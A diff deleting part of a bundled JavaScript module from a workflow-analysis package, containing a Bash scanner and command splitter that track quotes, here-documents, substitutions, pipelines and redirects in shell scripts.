-                into.push(wordOf(node.left, this), wordOf(node.right, this));
-                return;
-            case "TestLogical":
-                for (const operand of node.operands)
-                    this.operands(operand, into);
-                return;
-            case "TestNot":
-                this.operands(node.operand, into);
-                return;
-            case "TestGroup":
-                this.operands(node.expression, into);
-        }
-    }
-    arithmeticCommand(node, place, redirects, into) {
-        const args = [];
-        const name = plainWord(node.pos, node.pos + 2, this);
-        const command = this.add(node, place, into, { name, args, assignments: [], redirects });
-        this.wordPlace = place;
-        args.push(arithmeticWord(node.expression, { pos: node.pos + 2, end: Math.max(node.pos + 2, node.end - 2) }, this));
-        return command;
-    }
-}
-function under(place, condition) {
-    return { ...place, conditions: [...place.conditions, condition] };
-}
-function descriptorOf(descriptor) {
-    if (!descriptor)
-        return undefined;
-    return descriptor.type === "FileDescriptor" ? String(descriptor.value) : `{${descriptor.name}}`;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/regions.js
-/** Collects the regions of a script while a lexer goes through it from start to end. */
-class RegionRecorder {
-    regions = [];
-    #start = 0;
-    #quoting = "none";
-    /** From `at` on, the text is inside `quoting`. */
-    enter(at, quoting) {
-        if (quoting === this.#quoting)
-            return;
-        this.finish(at);
-        this.#start = at;
-        this.#quoting = quoting;
-    }
-    /** The text ends at `at`. */
-    finish(at) {
-        if (this.#quoting !== "none" && at > this.#start) {
-            this.regions.push({ start: this.#start, end: at, quoting: this.#quoting });
-        }
-        this.#start = at;
-        return this.regions;
-    }
-}
-/** Index of the first region that ends after `offset`. */
-function regionIndex(regions, offset) {
-    let low = 0;
-    let high = regions.length;
-    while (low < high) {
-        const middle = (low + high) >> 1;
-        if (regions[middle].end <= offset)
-            low = middle + 1;
-        else
-            high = middle;
-    }
-    return low;
-}
-/** What `offset` is inside of; quotes themselves count as inside. */
-function quotingIn(regions, offset) {
-    const region = regions[regionIndex(regions, offset)];
-    return region !== undefined && region.start <= offset ? region.quoting : "none";
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/scan.js
-
-/** Finds quotes, comments, here-documents and substitutions. Takes a script whose `${{ }}` are masked. */
-function scanBash(text) {
-    return new Scanner(text).run();
-}
-/** Deeper nesting is read as plain text: no script that a person wrote has it. */
-const MAX_DEPTH = 200;
-const COMMAND_FOLLOWS = new Set(["then", "do", "else", "elif", "if", "while", "until", "!", "{", "time"]);
-class Scanner {
-    text;
-    recorder = new RegionRecorder();
-    substitutions = [];
-    heredocs = [];
-    stack = [];
-    at = 0;
-    /** Where the innermost open here-document's body ends. */
-    limit;
-    openBackticks = 0;
-    constructor(text) {
-        this.text = text;
-        this.limit = text.length;
-    }
-    run() {
-        this.push("code", "none", "");
-        for (;;) {
-            if (this.at >= this.limit) {
-                if (!this.endHeredoc())
-                    break;
-                continue;
-            }
-            const frame = this.top;
-            if (frame.kind === "code")
-                this.code(frame);
-            else if (frame.kind === "double")
-                this.double();
-            else if (frame.kind === "parameter")
-                this.parameter(frame);
-            else if (frame.kind === "arithmetic")
-                this.arithmetic(frame);
-            else
-                this.expandable();
-        }
-        for (const { substitution } of this.stack)
-            this.closeSubstitution(substitution, this.text.length, 0);
-        return {
-            regions: this.recorder.finish(this.text.length),
-            substitutions: this.substitutions,
-            heredocs: this.heredocs,
-        };
-    }
-    get top() {
-        return this.stack[this.stack.length - 1];
-    }
-    push(kind, quoting, closer) {
-        const frame = {
-            kind,
-            quoting,
-            closer,
-            depth: 0,
-            cases: 0,
-            atCommand: true,
-            pending: undefined,
-            substitution: undefined,
-            bodyEnd: 0,
-            after: 0,
-        };
-        this.stack.push(frame);
-        this.recorder.enter(this.at, quoting);
-        return frame;
-    }
-    /** Leaves the innermost frame; `at` is the offset after its end. */
-    pop(fence) {
-        const frame = this.stack.pop();
-        this.closeSubstitution(frame.substitution, this.at, fence);
-        if (frame.closer === "`")
-            this.openBackticks--;
-        const parent = this.top;
-        if (frame.pending && parent.kind === "code")
-            parent.pending = [...(parent.pending ?? []), ...frame.pending];
-        this.recorder.enter(this.at, parent.quoting);
-    }
-    closeSubstitution(substitution, end, fence) {
-        if (!substitution)
-            return;
-        substitution.end = end;
-        substitution.body.end = Math.max(substitution.body.start, end - fence);
-    }
-    code(frame) {
-        const { text } = this;
-        const start = this.at;
-        const char = text[start];
-        switch (char) {
-            case "\n":
-                this.at++;
-                frame.atCommand = true;
-                if (frame.pending)
-                    this.startHeredoc(frame);
-                return;
-            case " ":
-            case "\t":
-            case "\r":
-                this.at++;
-                return;
-            case ";":
-            case "|":
-            case "&":
-                this.at++;
-                frame.atCommand = true;
-                return;
-            case "#":
-                if (this.atWordStart())
-                    this.comment();
-                else
-                    this.at++;
-                return;
-            case "'":
-                frame.atCommand = false;
-                this.plainQuote("single", start + 1);
-                return;
-            case '"':
-                frame.atCommand = false;
-                this.openDouble();
-                return;
-            case "(":
-                if (text[start + 1] === "(" && frame.atCommand)
-                    this.openArithmetic(2);
-                else {
-                    frame.depth++;
-                    frame.atCommand = true;
-                    this.at++;
-                }
-                return;
-            case ")":
-                this.closeParenthesis(frame);
-                return;
-            case "<":
-            case ">":
-                this.angle(frame, char);
-                return;
-        }
-        if (this.escapeOrExpansion(char)) {
-            frame.atCommand = false;
-            return;
-        }
-        if (frame.atCommand && this.atWordStart())
-            this.commandWord(frame);
-        else
-            this.at++;
-    }
-    closeParenthesis(frame) {
-        this.at++;
-        frame.atCommand = true;
-        if (frame.depth > 0)
-            frame.depth--;
-        else if (frame.closer === ")" && frame.cases === 0)
-            this.pop(1);
-    }
-    angle(frame, char) {
-        const { text, at } = this;
-        const next = text[at + 1];
-        if (next === "(")
-            this.openSubstitution(2);
-        else if (char === "<" && next === "<") {
-            if (text[at + 2] === "<")
-                this.at += 3;
-            else
-                this.heredocOperator(frame);
-        }
-        else
-            this.at++;
-    }
-    /** Reads reserved words, as far as they say where a command begins. */
-    commandWord(frame) {
-        const start = this.at;
-        let end = start;
-        while (end < this.limit && isNameCode(this.text.charCodeAt(end)))
-            end++;
-        const word = this.text.slice(start, Math.min(end, start + 8));
-        if (end === start) {
-            const char = this.text[start];
-            if (!COMMAND_FOLLOWS.has(char))
-                frame.atCommand = false;
-            this.at++;
-            return;
-        }
-        this.at = end;
-        if (word === "case")
-            frame.cases++;
-        else if (word === "esac" && frame.cases > 0)
-            frame.cases--;
-        frame.atCommand = COMMAND_FOLLOWS.has(word);
-    }
-    atWordStart() {
-        if (this.at === 0)
-            return true;
-        const before = this.text[this.at - 1];
-        return " \t\r\n;&|()`".includes(before);
-    }
-    comment() {
-        this.recorder.enter(this.at, "comment");
-        while (this.at < this.limit) {
-            const char = this.text[this.at];
-            // Inside backticks the closing one ends the comment too.
-            if (char === "\n" || (char === "`" && this.openBackticks > 0))
-                break;
-            this.at++;
-        }
-        this.recorder.enter(this.at, this.top.quoting);
-    }
-    /** A quote without expansions, from `at` to the quote that closes it; the content begins at `content`. */
-    plainQuote(quoting, content) {
-        this.recorder.enter(this.at, quoting);
-        const end = this.text.indexOf("'", content);
-        this.at = end < 0 || end >= this.limit ? this.limit : end + 1;
-        this.recorder.enter(this.at, this.top.quoting);
-    }
-    ansiQuote() {
-        this.recorder.enter(this.at, "ansi-c");
-        this.at += 2;
-        while (this.at < this.limit && this.text[this.at] !== "'")
-            this.at += this.text[this.at] === "\\" ? 2 : 1;
-        this.at = Math.min(this.at + 1, this.limit);
-        this.recorder.enter(this.at, this.top.quoting);
-    }
-    openDouble() {
-        this.push("double", "double", "");
-        this.at++;
-    }
-    openArithmetic(fence) {
-        if (this.stack.length >= MAX_DEPTH)
-            this.at += fence;
-        else {
-            this.push("arithmetic", "arithmetic", "");
-            this.at += fence;
-        }
-    }
-    openSubstitution(fence, closer = ")") {
-        if (this.stack.length >= MAX_DEPTH) {
-            this.at += fence;
-            return;
-        }
-        const start = this.at;
-        const body = { start: start + fence, end: start + fence };
-        const substitution = { start, end: start + fence, body };
-        this.substitutions.push(substitution);
-        this.push("code", "none", closer).substitution = substitution;
-        if (closer === "`")
-            this.openBackticks++;
-        this.at += fence;
-    }
-    /** `\`, `$` and backticks, which mean the same in code, double quotes and here-documents. */
-    escapeOrExpansion(char) {
-        if (char === "\\") {
-            this.at = Math.min(this.at + 2, this.limit);
-            return true;
-        }
-        if (char === "`") {
-            if (this.openBackticks > 0)
-                this.closeBacktick();
-            else
-                this.openSubstitution(1, "`");
-            return true;
-        }
-        if (char !== "$")
-            return false;
-        const next = this.text[this.at + 1];
-        if (next === "(") {
-            if (this.text[this.at + 2] === "(")
-                this.openArithmetic(3);
-            else
-                this.openSubstitution(2);
-        }
-        else if (next === "{")
-            this.openParameter();
-        else if (next === "'" && this.top.kind === "code")
-            this.ansiQuote();
-        else if (next === '"' && this.top.kind === "code")
-            this.at++;
-        else
-            this.at = Math.min(this.at + 2, this.limit);
-        return true;
-    }
-    closeBacktick() {
-        while (this.top.closer !== "`")
-            this.pop(0);
-        this.at++;
-        this.pop(1);
-        this.limit = this.outerLimit();
-    }
-    openParameter() {
-        if (this.stack.length >= MAX_DEPTH) {
-            this.at += 2;
-            return;
-        }
-        this.push("parameter", this.top.quoting, "");
-        this.at += 2;
-        // `${#X}`, `${!X}`: what follows isn't a quote or a comment.
-        if ("#!".includes(this.text[this.at] ?? "x"))
-            this.at++;
-    }
-    double() {
-        const char = this.text[this.at];
-        if (char === '"') {
-            this.at++;
-            this.pop(0);
-        }
-        else if (!this.escapeOrExpansion(char))
-            this.at++;
-    }
-    parameter(frame) {
-        const char = this.text[this.at];
-        if (char === "}") {
-            this.at++;
-            this.pop(0);
-        }
-        else if (char === "'" && frame.quoting === "none")
-            this.plainQuote("single", this.at + 1);
-        else if (char === '"')
-            this.openDouble();
-        else if (!this.escapeOrExpansion(char))
-            this.at++;
-    }
-    arithmetic(frame) {
-        const char = this.text[this.at];
-        if (char === "(")
-            frame.depth++;
-        if (char === ")") {
-            if (frame.depth > 0)
-                frame.depth--;
-            else {
-                this.at += this.text[this.at + 1] === ")" ? 2 : 1;
-                this.at = Math.min(this.at, this.limit);
-                this.pop(0);
-                return;
-            }
-        }
-        if (char === '"')
-            this.openDouble();
-        else if (!this.escapeOrExpansion(char))
-            this.at++;
-    }
-    expandable() {
-        const char = this.text[this.at];
-        if (!this.escapeOrExpansion(char))
-            this.at++;
-    }
-    heredocOperator(frame) {
-        const operator = this.at;
-        const { text } = this;
-        let at = operator + 2;
-        const stripsTabs = text[at] === "-";
-        if (stripsTabs)
-            at++;
-        while (text[at] === " " || text[at] === "\t")
-            at++;
-        let delimiter = "";
-        let quoted = false;
-        while (at < this.limit && !" \t\r\n;&|()<>".includes(text[at])) {
-            const char = text[at];
-            if (char === "'" || char === '"') {
-                quoted = true;
-                const close = text.indexOf(char, at + 1);
-                const end = close < 0 || close > this.limit ? this.limit : close;
-                delimiter += text.slice(at + 1, end);
-                this.recorder.enter(at, char === "'" ? "single" : "double");
-                at = end + 1;
-                this.recorder.enter(Math.min(at, this.limit), this.top.quoting);
-            }
-            else if (char === "\\") {
-                quoted = true;
-                delimiter += text[at + 1] ?? "";
-                at += 2;
-            }
-            else {
-                delimiter += char;
-                at++;
-            }
-        }
-        this.at = Math.min(at, this.limit);
-        frame.pending ??= [];
-        frame.pending.push({ operator, delimiter, quoted, stripsTabs });
-    }
-    /** `at` is at the beginning of the body of the first pending here-document. */
-    startHeredoc(frame) {
-        const heredoc = frame.pending?.shift();
-        if (!heredoc) {
-            frame.pending = undefined;
-            return;
-        }
-        const { bodyEnd, after } = this.heredocEnd(heredoc);
-        this.heredocs.push({ operator: heredoc.operator, body: { start: this.at, end: bodyEnd }, after });
-        const inner = this.push("heredoc", heredoc.quoted ? "heredoc-quoted" : "heredoc", "");
-        inner.bodyEnd = bodyEnd;
-        inner.after = after;
-        this.limit = bodyEnd;
-        if (heredoc.quoted)
-            this.at = bodyEnd;
-    }
-    heredocEnd({ delimiter, stripsTabs }) {
-        const { text, limit } = this;
-        for (let line = this.at; line < limit;) {
-            const newline = text.indexOf("\n", line);
-            const end = newline < 0 || newline > limit ? limit : newline;
-            let from = line;
-            while (stripsTabs && text[from] === "\t")
-                from++;
-            const to = text[end - 1] === "\r" ? end - 1 : end;
-            if (to - from === delimiter.length && text.startsWith(delimiter, from)) {
-                return { bodyEnd: line, after: Math.min(end + 1, limit) };
-            }
-            line = end + 1;
-        }
-        return { bodyEnd: limit, after: limit };
-    }
-    /** Goes on after the innermost here-document; false when the script ends. */
-    endHeredoc() {
-        const index = this.stack.findLastIndex((frame) => frame.kind === "heredoc");
-        const frame = this.stack[index];
-        if (!frame)
-            return false;
-        this.at = frame.bodyEnd;
-        while (this.stack.length > index)
-            this.pop(0);
-        this.at = frame.after;
-        this.limit = this.outerLimit();
-        const code = this.top;
-        code.atCommand = true;
-        if (code.pending)
-            this.startHeredoc(code);
-        return true;
-    }
-    outerLimit() {
-        return this.stack.findLast((frame) => frame.kind === "heredoc")?.bodyEnd ?? this.text.length;
-    }
-}
-/** ASCII letters, digits and `_`. */
-function isNameCode(code) {
-    return (code >= 97 && code <= 122) || (code >= 65 && code <= 90) || (code >= 48 && code <= 57) || code === 95;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split-word.js
-
-
-/** A word cut out by the splitter; its parts are found when asked for. */
-class SplitWord {
-    from;
-    range;
-    substitutions;
-    start;
-    end;
-    #parts;
-    constructor(from, range, substitutions) {
-        this.from = from;
-        this.range = range;
-        this.substitutions = substitutions;
-        const span = from.place(range.start, range.end);
-        this.start = span.start;
-        this.end = span.end;
-    }
-    get text() {
-        return this.from.source.text.slice(this.start, this.end);
-    }
-    get parts() {
-        this.#parts ??= splitParts(this.from, this.range, this.substitutions);
-        return this.#parts;
-    }
-    get literal() {
-        return literalOf(this.parts);
-    }
-    /** The word without its first `length` characters, `undefined` when nothing is left. */
-    after(length) {
-        const start = this.range.start + length;
-        if (start >= this.range.end)
-            return undefined;
-        return new SplitWord(this.from, { start, end: this.range.end }, this.substitutions.filter(({ span }) => span.start >= start));
-    }
-}
-const VARIABLE = /\$(?:([A-Za-z_][A-Za-z0-9_]*|[0-9@*#?$!-])|\{([#!]?)([A-Za-z_][A-Za-z0-9_]*|[0-9]+|[@*#?$!-])([^}]{0,2})[^}]{0,500}\}?)/y;
-function splitParts(from, range, substitutions) {
-    const { text, scan, source, place } = from;
-    const parts = [];
-    let nextSubstitution = 0;
-    let value = "";
-    let valueStart = range.start;
-    let quoted = "none";
-    let region = regionIndex(scan.regions, range.start);
-    const flush = (end) => {
-        if (value !== "") {
-            const span = place(valueStart, end);
-            parts.push(...literalParts(source, value, span.start, span.end, quoted));
-        }
-        value = "";
-        valueStart = end;
-    };
-    let at = range.start;
-    while (at < range.end) {
-        const substitution = substitutions[nextSubstitution];
-        if (substitution && at >= substitution.span.start) {
-            flush(at);
-            at = Math.max(at, substitution.span.end);
-            const span = place(substitution.span.start, at);
-            parts.push({ kind: "substitution", ...span, quoted, commands: substitution.commands });
-            valueStart = at;
-            nextSubstitution++;
-            continue;
-        }
-        while (region < scan.regions.length && scan.regions[region]?.end <= at)
-            region++;
-        const current = scan.regions[region];
-        const inside = current !== undefined && current.start <= at ? current : undefined;
-        const nowQuoted = quotedAs(inside);
-        if (nowQuoted !== quoted) {
-            flush(at);
-            quoted = nowQuoted;
-        }
-        const char = text[at];
-        if (inside && (at === inside.start || at === inside.end - 1) && (char === "'" || char === '"')) {
-            at++;
-        }
-        else if (quoted === "single") {
-            value += char;
-            at++;
-        }
-        else if (char === "\\" && at + 1 < range.end) {
-            const next = text[at + 1];
-            if (quoted === "none" || '$`"\\'.includes(next))
-                value += next === "\n" ? "" : next;
-            else
-                value += next === "\n" ? "" : char + next;
-            at += 2;
-        }
-        else if (char === '"' ||
-            (char === "$" && (text[at + 1] === "'" || (text[at + 1] === '"' && quoted === "none")))) {
-            at++;
-        }
-        else {
-            VARIABLE.lastIndex = at;
-            const match = char === "$" ? VARIABLE.exec(text) : null;
-            if (match) {
-                flush(at);
-                const end = Math.min(at + match[0].length, range.end);
-                const name = match[1] ?? match[3];
-                parts.push({ kind: "variable", ...place(at, end), quoted, name, operator: split_word_operatorOf(match), operand: [] });
-                at = end;
-                valueStart = at;
-                while (substitutions[nextSubstitution] && substitutions[nextSubstitution]?.span.start < at)
-                    nextSubstitution++;
-            }
-            else {
-                if (quoted === "none" && (char === "*" || char === "?")) {
-                    flush(at);
-                    parts.push({ kind: "glob", ...place(at, at + 1), quoted, pattern: char, parts: [] });
-                    valueStart = at + 1;
-                }
-                else
-                    value += char;
-                at++;
-            }
-        }
-    }
-    flush(range.end);
-    return parts;
-}
-function split_word_operatorOf(match) {
-    if (match[2] === "#")
-        return "length";
-    if (match[2] === "!")
-        return "indirect";
-    return match[4] ? match[4] : undefined;
-}
-
-;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/shell/bash/split.js
-
-
-
-/**
- * Commands of a script that no parser reads: words, redirects, pipelines and groups as far as they show in the text.
- * Takes anything and finds something.
- */
-function splitScript(source, masked, placement, place, collected) {
-    const from = { source, text: masked, scan: scanBash(masked), place: placement };
-    new Splitter(from, collected).range({ start: 0, end: masked.length }, place, 0, 0);
-}
-const OPENERS = new Map([
-    ["{", { kind: "brace", closer: "}" }],
-    ["if", { kind: "if", closer: "fi" }],
-    ["while", { kind: "while", closer: "done" }],
-    ["until", { kind: "while", closer: "done" }],
-    ["for", { kind: "for", closer: "done" }],
-    ["select", { kind: "select", closer: "done" }],
-    ["case", { kind: "case", closer: "esac" }],
-]);
-const CONDITIONS = new Map([
-    ["if", "if-body"],
-    ["while", "loop-body"],
-    ["for", "loop-body"],
-    ["select", "loop-body"],
-    ["case", "case-body"],
-]);
-const CLOSERS = new Set(["}", "fi", "done", "esac"]);
-const SEPARATORS = new Set(["then", "do", "else", "elif", "!", "time"]);
-const split_ASSIGNMENT = /^([A-Za-z_][A-Za-z0-9_]*)(?:\[[^\]]*\])?(\+?)=/;
-const split_MAX_DEPTH = 50;
-class Splitter {
-    from;
-    collected;
-    bodies = new Map();
-    operators = new Map();
-    constructor(from, collected) {
-        this.from = from;
-        this.collected = collected;
-        for (const heredoc of from.scan.heredocs) {
-            if (heredoc.after > heredoc.body.start)
-                this.bodies.set(heredoc.body.start, heredoc);
-            this.operators.set(heredoc.operator, heredoc);
-        }
-    }
-    /** The here-document whose body begins at `offset`. */
-    bodyAt(offset) {
-        return this.bodies.get(offset);
-    }
-    /** The here-document whose operator is at `offset`. */
-    heredocOf(offset) {
-        return this.operators.get(offset);
-    }
-    /**
-     * Splits a range, which is the whole text or the inside of a substitution.
-     *
-     * @param firstSubstitution index of the first substitution that may begin in the range
-     * @returns the commands of the range and the index of the first substitution after it
-     */
-    range(range, place, firstSubstitution, depth) {
-        const walk = new RangeWalk(this.from, this.collected, range, place, firstSubstitution, depth, this);
-        return walk.run();
-    }
-}
-class RangeWalk {
-    from;
-    collected;
-    limits;
-    place;
-    substitution;
-    depth;
-    splitter;
-    at;
-    commands = [];
-    open = [];
-    draft;
-    stages = [];
-    region;
-    /** Set between `name()` and the body. */
-    functionName;
-    constructor(from, collected, limits, place, substitution, depth, splitter) {
-        this.from = from;
-        this.collected = collected;
-        this.limits = limits;
-        this.place = place;
-        this.substitution = substitution;
-        this.depth = depth;
-        this.splitter = splitter;
-        this.at = limits.start;
-        this.region = regionIndex(from.scan.regions, limits.start);
-    }
-    run() {
-        const { text } = this.from;
-        const { end } = this.limits;
-        while (this.at < end) {
-            if (this.skipHidden())
-                continue;
-            const char = text[this.at];
-            if (char === " " || char === "\t" || char === "\r")
-                this.at++;
-            else if (char === "\\" && (text[this.at + 1] === "\n" || text[this.at + 1] === "\r"))
-                this.at += 2;
-            else if (char === "\n" || char === ";")
-                this.endPipeline();
-            else if (char === "&" && text[this.at + 1] !== ">")
-                this.endPipeline();
-            else if (char === "|")
-                this.pipe();
-            else if (char === "(")
-                this.openParenthesis();
-            else if (char === ")")
-                this.closeParenthesis();
-            else if (this.isRedirect())
-                this.redirect();
-            else
-                this.word();
-        }
-        this.endPipeline();
-        while (this.open.length > 0)
-            this.closeGroup(end);
-        return { commands: this.commands, next: this.substitution };
-    }
-    get inner() {
-        const group = this.open[this.open.length - 1];
-        return group ? group.place : this.place;
-    }
-    /** Steps over comments and bodies of here-documents. */
-    skipHidden() {
-        const { regions } = this.from.scan;
-        while (this.region < regions.length && regions[this.region]?.end <= this.at)
-            this.region++;
-        const region = regions[this.region];
-        if (region?.quoting === "comment" && region.start <= this.at) {
-            this.at = Math.min(region.end, this.limits.end);
-            return true;
-        }
-        const heredoc = this.splitter.bodyAt(this.at);
-        if (heredoc) {
-            this.at = Math.min(heredoc.after, this.limits.end);
-            this.skipSubstitutions();
-            return true;
-        }
-        return false;
-    }
-    skipSubstitutions() {
-        const { substitutions } = this.from.scan;
-        while ((substitutions[this.substitution]?.start ?? Number.POSITIVE_INFINITY) < this.at)
-            this.substitution++;
-    }
-    isPlain() {
-        const { regions } = this.from.scan;
-        while (this.region < regions.length && regions[this.region]?.end <= this.at)
-            this.region++;
-        const region = regions[this.region];
-        return region === undefined || region.start > this.at;
-    }
-    word() {
-        const word = this.readWord();
-        if (!this.draft || this.draft.words.length === 0) {
-            const text = this.from.text.slice(word.range.start, Math.min(word.range.end, word.range.start + 8));
-            if (!this.draft?.closed && this.reserved(text, word.range))
-                return;
-        }
-        const draft = this.begin(word.range.start);
-        draft.words.push(new SplitWord(this.from, word.range, word.substitutions));
-        draft.end = word.range.end;
-    }
-    /** Reads up to the next blank or operator that isn't quoted. */
-    readWord() {
-        const { text, scan } = this.from;
-        const start = this.at;
-        const substitutions = [];
-        while (this.at < this.limits.end) {
-            const substitution = scan.substitutions[this.substitution];
-            if (substitution && substitution.start <= this.at) {
-                substitutions.push(this.readSubstitution(substitution));
-                continue;
-            }
-            const char = text[this.at];
-            if (this.isPlain()) {
-                if (char === "\\") {
-                    if (text[this.at + 1] === "\n" && this.at > start)
-                        break;
-                    this.at += 2;
-                    continue;
-                }
-                if (char === "$" && text[this.at + 1] === "{") {
-                    this.skipParameter();
-                    continue;
-                }
-                if (" \t\r\n;&|()<>".includes(char) && !(char === "(" && text[this.at - 1] === "="))
-                    break;
-                if (char === "(") {
-                    // An array: its elements are read as words of one text.
-                    this.skipArray();
-                    continue;
-                }
-            }
-            this.at++;
-        }
-        this.at = Math.max(Math.min(this.at, this.limits.end), start + 1);
-        return { range: { start, end: this.at }, substitutions };
-    }
-    skipParameter() {
-        const { text } = this.from;
-        const close = text.indexOf("}", this.at);
-        const end = close < 0 || close >= this.limits.end || close - this.at > 500 ? this.at + 1 : close;
-        const substitution = this.from.scan.substitutions[this.substitution];
-        this.at = substitution ? Math.min(end + 1, Math.max(substitution.start, this.at + 1)) : end + 1;
-    }
-    skipArray() {
-        const { text } = this.from;
-        this.at++;
-        const close = text.indexOf(")", this.at);
-        const newline = text.indexOf("\n", this.at);
-        if (close < 0 || close >= this.limits.end || (newline >= 0 && newline < close))
-            return;
-        const substitution = this.from.scan.substitutions[this.substitution];
-        this.at = substitution && substitution.start < close ? Math.max(this.at, substitution.start) : close + 1;
-    }
-    readSubstitution(span) {
-        this.substitution++;
-        let commands = [];
-        const end = Math.min(span.end, this.limits.end);
-        if (this.depth < split_MAX_DEPTH) {
-            const body = { start: span.body.start, end: Math.min(span.body.end, end) };
-            const inside = { ...this.inner, inSubstitution: true, group: undefined };
-            const read = this.splitter.range(body, inside, this.substitution, this.depth + 1);
-            commands = read.commands;
-            this.substitution = read.next;
-        }
-        this.at = Math.max(end, this.at + 1);
-        this.skipSubstitutions();
-        return { span, commands };
-    }
-    begin(start) {
-        this.draft ??= { start, end: start, words: [], redirects: [], closed: undefined };
-        return this.draft;
-    }
-    /** Handles a reserved word at the beginning of a command; false when it isn't one. */
-    reserved(word, range) {
-        if (SEPARATORS.has(word))
-            return true;
-        const opener = OPENERS.get(word);
-        if (opener) {
-            this.openGroup(opener.kind, opener.closer, range.start);
-            return opener.kind !== "for" && opener.kind !== "select" && opener.kind !== "case" ? true : this.skipHeader();
-        }
-        const top = this.open[this.open.length - 1];
-        if (CLOSERS.has(word) && top?.closer === word) {
-            this.closeGroup(range.end);
-            return true;
-        }
-        return false;
-    }
-    /** `for x in …`, `case … in`: the words up to the end of the line belong to no command. */
-    skipHeader() {
-        const { text } = this.from;
-        while (this.at < this.limits.end) {
-            const substitution = this.from.scan.substitutions[this.substitution];
-            if (substitution && substitution.start <= this.at)
-                this.readSubstitution(substitution);
-            else if (this.isPlain() && (text[this.at] === "\n" || text[this.at] === ";"))
-                break;
-            else
-                this.at++;
-        }
-        return true;
-    }
-    openGroup(kind, closer, start) {
-        if (this.open.length >= split_MAX_DEPTH)
-            return;
-        const outer = this.inner;
-        const span = this.from.place(start, start);
-        const group = {
-            kind,
-            ...span,
-            name: undefined,
-            words: [],
-            redirects: [],
-            commands: [],
-            place: outer,
-            pipeline: undefined,
-        };
-        this.collected.groups.push(group);
-        const condition = CONDITIONS.get(kind);
-        const place = {
-            ...outer,
-            group,
-            conditions: condition ? [...outer.conditions, condition] : outer.conditions,
-            inFunction: this.functionName ?? outer.inFunction,
-        };
-        this.functionName = undefined;
-        this.open.push({ kind, closer, start, place, group, stages: this.stages });
-        this.stages = [];
-    }
-    closeGroup(end) {
-        this.linkStages();
-        const { group, start, stages } = this.open.pop();
-        group.end = this.from.place(start, end).end;
-        const outer = this.open[this.open.length - 1];
-        const into = outer ? outer.group.commands : this.commands;
-        for (const command of group.commands)
-            into.push(command);
-        this.stages = stages;
-        this.draft = { start, end, words: [], redirects: group.redirects, closed: group };
-    }
-    openParenthesis() {
-        const { draft } = this;
-        this.at++;
-        if (!draft) {
-            this.openGroup("subshell", ")", this.at - 1);
-        }
-        else if (draft.words.length === 1 && this.from.text[this.at] === ")") {
-            this.functionName = draft.words[0]?.text;
-            this.draft = undefined;
-            this.at++;
-        }
-        else
-            this.endCommand();
-    }
-    closeParenthesis() {
-        this.at++;
-        this.endCommand();
-        if (this.open[this.open.length - 1]?.closer === ")")
-            this.closeGroup(this.at);
-        else
-            this.linkStages();
-    }
-    pipe() {
-        const { text } = this.from;
-        if (text[this.at + 1] === "|") {
-            this.endPipeline();
-            this.at++;
-            return;
-        }
-        this.endCommand();
-        this.at += text[this.at + 1] === "&" ? 2 : 1;
-    }
-    endPipeline() {
-        this.endCommand();
-        this.linkStages();
-        this.at++;
-    }
-    linkStages() {
-        const { stages } = this;
-        if (stages.length > 1) {
-            stages.forEach((stage, index) => {
-                stage.pipeline = { index, stages };
-            });
-        }
-        this.stages = [];
-    }
-    endCommand() {
-        const { draft } = this;
-        this.draft = undefined;
-        if (!draft)
-            return;
-        if (draft.closed) {
-            this.stages.push(draft.closed);
-            return;
-        }
-        const assignments = [];
-        let first = 0;
-        while (first < draft.words.length) {
-            const assignment = this.assignment(draft.words[first]);
-            if (!assignment)
-                break;
-            assignments.push(assignment);
-            first++;
-        }
-        const command = {
-            kind: "command",
-            ...this.from.place(draft.start, draft.end),
-            name: draft.words[first],
-            args: draft.words.slice(first + 1),
-            assignments,
-            redirects: draft.redirects,
-            place: this.inner,
-            pipeline: undefined,
-        };
-        this.collected.commands.push(command);
-        const group = this.open[this.open.length - 1];
-        (group ? group.group.commands : this.commands).push(command);
-        this.stages.push(command);
-    }
-    assignment(word) {
-        const match = split_ASSIGNMENT.exec(word.text);
-        if (!match)
-            return undefined;
-        const value = word.after(match[0].length);
-        return {
-            start: word.start,
-            end: word.end,
-            name: match[1],
-            append: match[2] === "+",
-            values: value ? [value] : [],
-        };
-    }
-    isRedirect() {
-        const { text } = this.from;
-        if (!this.isPlain())
-            return false;
-        let at = this.at;
-        while (at < this.at + 3 && text.charCodeAt(at) >= 48 && text.charCodeAt(at) <= 57)
-            at++;
-        const char = text[at];
-        if (char === "<" || char === ">")
-            return text[at + 1] !== "(" || at > this.at;
-        return char === "&" && at === this.at && text[at + 1] === ">";
-    }
-    redirect() {
-        const { text } = this.from;
-        const start = this.at;
-        const draft = this.begin(start);
-        const match = REDIRECT.exec(text.slice(start, start + 8));
-        this.at += match[0].length;
-        const operatorAt = start + match[1].length;
-        const operator = match[2];
-        while (text[this.at] === " " || text[this.at] === "\t")
-            this.at++;
-        const char = text[this.at] ?? "\n";
-        let target;
-        if (this.at < this.limits.end && (!this.isPlain() || !"\r\n;&|()<>".includes(char))) {
-            const word = this.readWord();
-            target = new SplitWord(this.from, word.range, word.substitutions);
-        }
-        const end = Math.min(this.at, this.limits.end);
-        const heredoc = operator.startsWith("<<") && operator !== "<<<" ? this.splitter.heredocOf(operatorAt) : undefined;
-        draft.redirects.push({
-            ...this.from.place(start, end),
-            operator,
-            descriptor: match[1] === "" ? undefined : match[1],
-            target,
-            heredoc: heredoc && {
-                body: this.from.place(heredoc.body.start, heredoc.body.end),
-                delimiter: target?.literal ?? "",
-                quoted: target !== undefined && /['"\\]/.test(target.text),
-                content: this.heredocContent(heredoc.body),
-            },
-        });
-        draft.end = end;
-    }
-    heredocContent(body) {
-        const { substitutions } = this.from.scan;
-        const inside = [];
-        const first = this.depth < split_MAX_DEPTH ? firstFrom(substitutions, body.start) : substitutions.length;
-        for (let index = first; index < substitutions.length; index++) {
-            const span = substitutions[index];
-            if (span.start >= body.end)
-                break;
-            const last = inside[inside.length - 1];
-            if (last && span.start < last.span.end)
-                continue;
-            const place = { ...this.inner, inSubstitution: true, group: undefined };
-            const { commands } = this.splitter.range(span.body, place, index + 1, this.depth + 1);
-            inside.push({ span, commands });
-        }
-        return new SplitWord(this.from, body, inside);
-    }
-}
-const REDIRECT = /^(\d*)(&>>|&>|<<<|<<-?|<>|<&|>>|>\||>&|<|>)/;
